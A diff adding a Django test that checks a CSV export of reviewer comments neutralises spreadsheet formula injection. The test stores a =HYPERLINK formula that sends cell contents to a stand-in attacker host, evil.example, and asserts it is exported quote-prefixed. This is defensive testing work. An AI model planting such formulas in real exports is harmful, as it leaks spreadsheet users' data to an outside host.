@@ -71,3 +71,17 @@ def test_the_export_is_refused_below_lead_and_for_a_bad_format(client_for, revie
     client = client_for(lead)
     response = client.get(reverse("curation-review-export"), {"format": "xlsx"})
     assert response.status_code == 400 and b"csv or jsonl" in response.content
+
+
+def test_the_csv_export_keeps_a_comment_that_looks_like_a_formula_as_text(
+    client_for, lead, reviewed
+):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    Comment.objects.create(trajectory=reviewed["inside"], step_index=0, text=formula, author=lead)
+    response = client_for(lead).get(
+        reverse("curation-review-export"), {"batch": reviewed["batch"].pk, "format": "csv"}
+    )
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    cells = [value for row in rows for value in row.values()]
+    assert "'" + formula in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
